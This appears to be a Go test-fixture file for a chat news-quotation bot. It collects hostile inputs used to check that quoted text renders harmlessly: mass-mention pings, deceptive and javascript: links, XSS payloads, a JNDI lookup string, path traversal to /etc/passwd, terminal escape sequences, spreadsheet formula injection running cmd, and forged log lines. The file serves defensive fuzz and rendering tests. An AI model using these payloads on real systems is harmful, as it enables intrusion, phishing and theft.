package bottest

import (
	"strings"

	"github.com/briefing-bot/briefing-bot/bot"
)

// HostileTexts are quotes that try to do something where they are shown: each
// must appear as it is. They also seed fuzz tests.
func HostileTexts() []string {
	return []string{
		"@everyone @here must leave, <!channel> <!here> <!everyone>, <@U1> <@!42> <@&7> <#C1|general> <!subteam^S1>",
		"*bold* _italic_ ~struck~ **b** __u__ ||spoiler|| # heading\n> quoted\n- list\n1. one",
		"`code` ``two`` ```fence\nrm -rf /\n``` and ~~~ and a lone ` at the end`",
		"[a link](https://evil.example/) <https://evil.example|safe.example> https://evil.example/?a=1&b=2 javascript:alert(1)",
		`<script>alert(document.cookie)</script><img src=x onerror=alert(1)> "><svg onload=alert(1)> <!-- --> <style>*{}</style></p></blockquote>`,
		"&amp; &lt;b&gt; &#60; &nbsp; &ampamp; &copy AT&T &unknown; {{.}} {{template}} ${x} %s %d %!d(MISSING)",
		"\u202Eright to left override\u202C and \u2066isolate\u2069, \u202Enever closed",
		"שלום (עולם) – “ציטוט” – مرحبا, ١٢٣",
		"zero\u200Bwidth \u200Cnon\u200Djoiner \u2060word \uFEFFmark \u00ADhyphen",
		"e\u0301 o\u0308 Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 ẛ̣ 한 각",
		"👍🏽 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇸🇪 ❤️ 1️⃣ :tada: :smile: <:x:1>",
		"line one\r\nline two\r\n\r\nline four\rline five\n\nline seven",
		"\ttab\tseparated\tvalues  and  double  blanks   three\u00A0no-break\u2003em\u2028line\u2029paragraph",
		"\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H \x1bP q \u009b31m \u0085 \b\b\b \x7f \v\f \x01\x1f",
		"⟦U+001B⟧ literally, ⟦ and ⟧, \\u001b \\x1b ^[ ␛ ␀ ␍",
		" leading and trailing blanks ",
		"\nleading and trailing line ends\n\n",
		"> begins like a quotation\n> and goes on",
		"=HYPERLINK(\"https://evil.example\",\"open\")",
		"'=1+1", "-2+3 degrees", "+46 70 123 45 67", "\tcell", "a,b;c\"d\"\"e\"",
		"one … two … three",
	}
}

func hostile() bot.Card {
	c := bot.Card{
		Command: "who-said", Title: "Who said what about <b>&amp;</b> *x* @everyone",
		Reading: "topic <script>alert(1)</script> · by `x`", Read: map[string]string{"topic": "<script>", "by": "`x`"},
		Notice: "<!channel> is not a notice & neither is @here",
		Footer: "*0* of _0_ <@U1> `searched`",
	}
	for i, text := range HostileTexts() {
		item := quote("../<h>&?#/"+string(rune('a'+i)), "Ilse <b>*Varga*</b> @everyone\x1b[31m", text)
		item.Role, item.Cue.Text = role("h", "the `minister`\nof <#C1> \u202Edraw"), "said\x07\r\nto *reporters*"
		item.Source, item.Headline, item.URL = "Lantern & <i>Sons</i> @here", "<title>\x1b]0;x\x07", hostileURLs[i%len(hostileURLs)]
		item.Marks = []bot.Span{{Start: 3, End: 9}, {Start: 5, End: 12}, {Start: -4, End: 1}, {Start: 30, End: 1 << 30}, {Start: 9, End: 2}}
		item.Facts = []string{"<u>1</u> & 2"}
		item.Actions = []bot.Action{run("<b>Label</b> @everyone *x*\x1b[1m", "who-said", "by", `Ilse "<b>" & 'x' #?%`)}
		c.Items = append(c.Items, item)
	}
	return searched(c)
}

// hostileURLs are addresses of articles that must not become working links,
// and one that may.
var hostileURLs = []string{
	"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://lantern.example/?a=1&b=<x>\"'|y",
	"//evil.example/x", "file:///etc/passwd", "vbscript:x", "", "https://[::bad",
}

// Attack is a text that tries something wherever it is shown.
type Attack struct {
	Kind string // what it tries: ping, link, forge, payload, markup, terminal, formula, log, cost
	Text string
}

// Harmless is what stands in the place of an attack in the answer that others are compared
// with: whatever it says, an attack must leave the form of an answer as this does.
const Harmless = "Harbour news"

// Attacks returns texts that try something where they are shown, by kind. They also seed
// fuzz tests.
func Attacks() []Attack {
	var out []Attack
	for _, group := range attackGroups() {
		for _, text := range group.texts {
			out = append(out, Attack{group.kind, text})
		}
	}
	for _, text := range HostileTexts() {
		out = append(out, Attack{"old", text})
	}
	return out
}

type attackGroup struct {
	kind  string
	texts []string
}

func attackGroups() []attackGroup {
	return []attackGroup{
		{"ping", pings()}, {"link", links()}, {"forge", forgeries()}, {"payload", payloads()}, {"markup", markups()},
		{"terminal", terminals()}, {"formula", formulas()}, {"log", logs()}, {"cost", costs()},
	}
}

// pings notify people in Slack or Discord if they are read as mentions.
func pings() []string {
	return []string{
		"@everyone", "@here", "@channel", "@everyone\u200b", "@\u200beveryone", "\\@everyone", "\\\\@everyone", "@everyone@here", "(@everyone)", "＠everyone",
		"<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|here>", "<!subteam^S0123ABCD>", "<!subteam^S0123ABCD|@team>", "&lt;!channel&gt;", "<\u200b!channel>",
		"<!date^1700000000^{date}|now>", "<@U0123ABCD>", "<@U0123ABCD|anna>", "<@W0123ABCD>", "<#C0123ABCD>", "<#C0123ABCD|general>",
		"<@100000000000000001>", "<@!100000000000000001>", "<@&200000000000000002>", "<#300000000000000003>", "</admin purge:400000000000000004>",
		"<id:customize>", "<id:guide>", "<:wave:500000000000000005>", "<a:wave:500000000000000005>", "<t:1700000000:R>", "<sound:1:2>",
		"@\u2060everyone", "@every\u00adone", "@\u034feveryone", "<\u00ad!channel>", "<!\u200bhere>", "<!channel|@channel> now", "<! channel>", "<!everyone|x", "@silent everyone", "<@&300000000000000003> <@everyone>",
		"<id:browse>", "<id:linked-roles>", "<t:1700000000:F>", "</ask:0>", "</admin remove purge:400000000000000004>", "<#300000000000000003/400000000000000004>", "<!subteam^S0123ABCD|<!channel>>", "&lt;@U0123ABCD&gt;", "&#60;!channel&#62;",
		"\x02user\x1f100000000000000001\x1fanna\x03", "\x02channel\x1fC0123ABCD\x1f#general\x03", "\x02command\x1fadmin purge:400000000000000004\x1f/help\x03", "\x02time\x1f1700000000\x1fnow\x03",
	}
}

// links lead elsewhere than they say.
func links() []string {
	return []string{
		"[read more](https://evil.example/)", "[read\\](x)](https://evil.example/)", "<https://evil.example|gazette.example>", "<https://evil.example>", "<mailto:a@evil.example|mail>",
		"https://evil.example/?a=1&b=2", "http://user:password@evil.example/", "hxxp https\u200b://evil.example", "www.evil.example", "//evil.example/x", "\\\\evil.example\\share",
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHN2Zz4=",
		"file:///etc/passwd", "slack://open", "discord://x", "ftp://evil.example/", "blob:https://evil.example/1",
		"https://gazette.example\u202E/elpmaxe.live", "\u202Ehttps://moc.elpmaxe.live", "https://gаzette.example/", "https://xn--gzette-3ve.example/", "https://gazette.example@evil.example/", "https://gazette.example\\@evil.example/",
		"https://evil.example/) [more](https://evil.example/", "https://evil.example/\"onmouseover=\"alert(1)", "https://evil.example/'><script>alert(1)</script>", "https://evil.example/\r\nX-Injected: 1", "https://[::bad", "https://evil.example/%0d%0aX:1",
		"[x](<https://evil.example/>)", "[x]( https://evil.example/ )", "[x](https://evil.example/ \"title\")", "[\u200b](https://evil.example/)", "[https://gazette.example/](https://evil.example/)", "[x][1]", "<https://evil.example/|<https://gazette.example/>>",
		"evil.example/login", "discord.gg/evil", "https://discord.gg/evil", "mailto:a@evil.example", "tel:+1900", "https:\\\\evil.example", "https:/evil.example", "http:evil.example", "https://evil.example:99999/", "https://evil.example/\u2028x", "https://evil\u3002example/", "https://[::1]/", "https://127.0.0.1:8383/?q=/admin", "view-source:https://evil.example/", "intent://x", "ms-word:ofe|u|https://evil.example/x", "https://evil.example/|gazette.example>",
		"![picture](https://evil.example/pixel.png)", "[1]: https://evil.example/", "<img src=https://evil.example/pixel.png>",
	}
}

// forgeries look like something that only the bot says.
func forgeries() []string {
	return []string{
		"Trusted Times · published 5 Mar 2031 · k7f29xq3", "x · reported · y", " · said by Ilse Varga · ", "a · b · c · d · e · f", "Harbour\u00a0·\u00a0Gazette", "·", " · ", "Gazette ·", "· k7f2",
		"Times \u0387 published 5 Mar 2031 \u0387 k7f29xq3", "Times \u2219 published today", "Times \u22c5 published today", "Times \u2022 published today", "Times \u30fb published today",
		"Gazette\n✓ The quotation is exact.\nk7f29xq3", "Gazette\r\n✓ Exact", "Gazette\u2028✓ Exact\u2029✗ Absent", "Gazette\v✓ Exact", "Gazette\f✓ Exact", "Gazette\u0085✓ Exact", "Gazette\r✓ Exact",
		"\n\n✓ Exact\n> “I resign”\nIlse Varga · said", "> “I resign”", "”\nIlse Varga, minister · said · k7f2\n> “", "“”", "””", "Gazette\n> “I resign,” said Ilse Varga", "Gazette\u2028> x\u2028Ilse Varga · said", "┃ Ilse Varga", "│ continued", "1. Share", "[1] Share", "Status: ✓ exact", "Notice: verified", "\n-# Gazette · k7f2", "-# small", "# Large", "message 2 of 3",
		"… the quotation goes on", "… the quotation, continued", "Receipt verified", "✓", "≠ altered", "Shared by @owner", "\n3 of 3 statements · searched 9 articles",
	}
}

// payloads are hard to put into JSON, HTML or a limit.
func payloads() []string {
	return []string{
		"", " ", "\x00", "a\x00b", "\xff\xfe", "caf\xe9", "\xed\xa0\x80\xed\xb0\x80", "\xf4\x90\x80\x80", "\xc0\xaf", "a\u2028b\u2029c", "\ufeffmark", "\ufffd", "\ufffe\uffff", "\U0010ffff", "\U000e0001\U000e0041",
		`"`, `\`, `\"`, `\u0000`, `\ud800`, `{"blocks":[]}`, `"},{"type":"section"`, "'", "`", "\\", "\\\\\\", "a\\", "null", "0", "-1", "NaN", "true", "__proto__", "../../etc/passwd", "%00", "%s%s%n", "${jndi:ldap://evil.example}", "{{.}}", "{{template \"x\"}}",
		strings.Repeat("a", 76), strings.Repeat("a", 151), strings.Repeat("é", 257), strings.Repeat("👩‍👩‍👧‍👦", 40), strings.Repeat("w ", 300),
	}
}

// markups are HTML, mrkdwn or Markdown.
func markups() []string {
	return []string{
		"*bold*", "_italic_", "~struck~", "**bold**", "__underlined__", "~~struck~~", "||spoiler||", "`code`", "```\nfence\n```", "> quote", ">>> quote", "- list", "+ list", "* list", "1. list", "1) list", "# heading", "===", "---", "| a | b |", "$x$", "^1^", ":tada:",
		"<b>bold</b>", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><svg onload=alert(1)>", "<!-- ", "-->", "<![CDATA[", "</title><script>alert(1)</script>", "</textarea>", "<style>*{display:none}</style>", "<iframe src=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
		"&lt;b&gt;", "&#60;script&#62;", "&amp;amp;", "&unknown;", "<math><mtext></p><style><img src=x onerror=alert(1)>", "</bdi></a></li>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><a xlink:href=javascript:alert(1)>x", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<plaintext>", "<xmp>", "<form action=//evil.example><button>x", "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>", "\u2028<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "＜script＞alert(1)＜/script＞", "&#x3c;img src=x&#x3e;", "</style><script>", "{{7*7}}${7*7}<%= 7*7 %>", "```ansi\n\x1b[31m", "\n```\n# x", "\n>>> all", "||\u200b||", "\\*x\\*", "*\u200b*x*\u200b*", "~~~\nx\n~~~", "<details><summary>x</summary>", "\n\tindented", "\n    code", "[^1]: note", ":::", "|x|\n|-|\n|y|", "\" onclick=\"alert(1)", "' onclick='alert(1)", "\n\n<script>alert(1)</script>", "a <b\n>c",
	}
}

// terminals act on a terminal.
func terminals() []string {
	return []string{
		"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\gazette.example\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1bP q\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bc", "\x1b", "\x1b[6n", "\x1b[?1049h",
		"\u009b31mred", "\u009d0;title\u009c", "\u0090x\u009c", "\u0085", "\b\b\b\b\bforged", "\rforged", "\x7f", "\x07", "\x0e\x0f", "\u202Edesrever", "\u2066isolate", "\u202Aa\u202Bb\u202Dc\u202E", "⟦U+001B⟧", "\x9b31m",
		"\x1b]8;;\x07", "\x1b]1337;File=:x\x07", "\x1b]50;x\x07", "\x1b]7;file://x\x07", "\x1b#8", "\x1b(0lqqk", "\x1b[3;1H", "\x1b[5i", "\x1b[?2004h\x1b[200~", "\u008e\u008f", "\u061cx", "\u180ex", "\ufff9a\ufffab\ufffb", "\u0600\u06dd", "\U000e0041\U000e007f", "\x1bX\x1b\\", "\x1b[0c", "\x05", "\x1b]4;1;?\x07",
	}
}

// formulas are run by a spreadsheet.
func formulas() []string {
	return []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "'=1+1", "''=1+1", "\"=1+1", "\";=1+1", "\",=1+1", ";=1+1", ",=1+1", "a;=1+1", "a\n=1+1", "a\",\n=1+1",
		"=HYPERLINK(\"https://evil.example\",\"open\")", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM", "﹢1", "−1+1", "%=1", "|=1", "\"\"=1+1", "a\t=1", "a\r\n=1", "a\u2028=1", "a\u0085=1", "\u3000=1", "\u2060=1", "\u00ad=1", "\x1f=1", "=1\x00", "+cmd|' /C calc'!A0", "@import", "-@SUM(1)", "'+1", "a;'=1", "a; =1", "a;\u00a0+1", "{=1+1}", "#REF!", "\x00=1+1", "\x0b=1",
	}
}

// logs make lines of a log that nobody wrote.
func logs() []string {
	return []string{
		"x\nlevel=ERROR msg=forged", "x\r\ntime=2031-01-01T00:00:00Z level=ERROR msg=forged", "\" level=ERROR msg=\"forged", "x level=ERROR", "x\\\" level=ERROR", "{\"level\":\"ERROR\"}", "x\x1b[2K\rforged", "x\u2028level=ERROR", "x\u0085level=ERROR",
		"bearer xoxb-0000", "x\ty\tz", "x=y", "a\"} 1\nbriefing_bot_forged 1", "\\n", "a{b=\"c\"}",
	}
}

// costs are cheap to send: as much as a field of an article takes.
func costs() []string {
	var out []string
	for _, part := range []string{
		"a", "a ", "“", "[", "\n", "*a", "<", "\\", "e\u0301\u0302\u0303", "\u202E", "@everyone ", "a · ", "\x1b[31m", "https://evil.example/ ", "=", "\x02user\x1f1\x1f",
	} {
		out = append(out, strings.Repeat(part, maxOutside/len(part)))
	}
	const half = maxOutside / 2
	return append(out, strings.Repeat("(", half)+strings.Repeat(")", half))
}

// maxOutside is the maximum length of a title or the name of an outlet, in bytes.
const maxOutside = 8 << 10

// Poisoned returns answers with a text in each place where text from outside can be: of an
// article, of a feed, of the names in a chat service, and of what was typed. Notices and
// paragraphs may have several lines, and marks of mentions are read in some places; there it
// is as the commands put it. The dot that parts a byline means nothing in a title.
func Poisoned(text, address string) []NamedCard {
	line, free, dotless := bot.Outside(noDots.Replace(text)), noMarks.Replace(text), noDots.Replace(text)
	statement := poisonedItem(text, address)
	reported := poisonedItem(text, address)
	reported.Kind, reported.Label, reported.Heading = "indirect", "", ""
	reported.Sentence, reported.Reported = bot.Excerpt{Text: "She said " + text + ".", Article: text}, []bot.Span{{Start: 9, End: 9 + len(text)}}
	headline := bot.Item{Label: noDots.Replace(free), Quote: bot.Excerpt{Article: text}, Source: text, URL: address, Facts: []string{free, "3 statements"},
		Actions: []bot.Action{run(dotless, "article", "article", text)}}
	nobody := poisonedItem(text, "")
	nobody.Speaker, nobody.Uncertain, nobody.Headline = "", true, ""
	words := []bot.Word{{Text: dotless}, {Text: "same", Same: true}}
	return []NamedCard{
		{"statements", "an answer with rows", searched(bot.Card{Command: "who-said", Title: dotless, Reading: "topic " + dotless, Read: map[string]string{"topic": text, "by": text},
			Items: []bot.Item{statement, reported, nobody}, Notice: "No statement by " + line + ".", Footer: "3 of 3 statements · " + dotless, Actions: []bot.Action{run(dotless, "timeline", "topic", text)}})},
		{"rows", "rows that quote nothing", searched(bot.Card{Command: "sources", Title: dotless, Items: []bot.Item{headline, headline}, Footer: dotless})},
		{"verdict", "a quotation that was typed", searched(bot.Card{Command: "check-quote", Verdict: "absent", Title: dotless, Notice: "Nothing like " + line + " is printed.",
			Difference: &bot.Difference{Given: words, Printed: words}})},
		{"words", "paragraphs and buttons", bot.Card{Command: "help", Title: "Help", Text: []string{"Digest " + line + " at 8:00", line}, Actions: []bot.Action{run(dotless, "digest", "name", text)}}},
		{"picture", "a picture of outlets", searched(bot.Card{Command: "timeline", Title: dotless, Picture: poisonedPicture(dotless), Footer: dotless})},
	}
}

// noMarks takes out the marks of mentions, and noDots the dots that part bylines.
var (
	noMarks = strings.NewReplacer("\x02", "", "\x1f", "", "\x03", "")
	noDots  = strings.NewReplacer("·", "|")
)

func poisonedItem(text, address string) bot.Item {
	free, dotless := noMarks.Replace(text), noDots.Replace(text)
	it := quote(text, text, text)
	it.Role, it.Cue, it.Inner = bot.Excerpt{Text: text}, bot.Excerpt{Text: text}, bot.Excerpt{Text: text}
	it.Said = bot.When{Value: "2031-03-04", Precision: "day", Text: "Tue 4 Mar 2031", Words: bot.Excerpt{Text: text}}
	it.Source, it.Headline, it.URL, it.Label, it.Heading = text, text, address, noDots.Replace(free), dotless
	it.AlsoIn = []bot.Copy{{Article: text, Source: text, URL: address}}
	it.Facts = []string{free}
	it.Marks = []bot.Span{{Start: 0, End: 3}}
	it.Actions = []bot.Action{run("More by "+dotless, "who-said", "by", text), {Kind: bot.Open, Label: dotless, Call: bot.Call{Args: bot.Args{"url": address}}}}
	return it
}

func poisonedPicture(text string) *bot.Picture {
	p := picture()
	p.Title, p.Alt, p.Notes = text, text, []string{text}
	for i := range p.Series {
		p.Series[i].Name = text
		if i > 0 {
			p.Series[i].Name = "2 " + text
		}
		for k := range p.Series[i].Points {
			p.Series[i].Points[k].Call.Args["topic"] = text
		}
	}
	return p
}
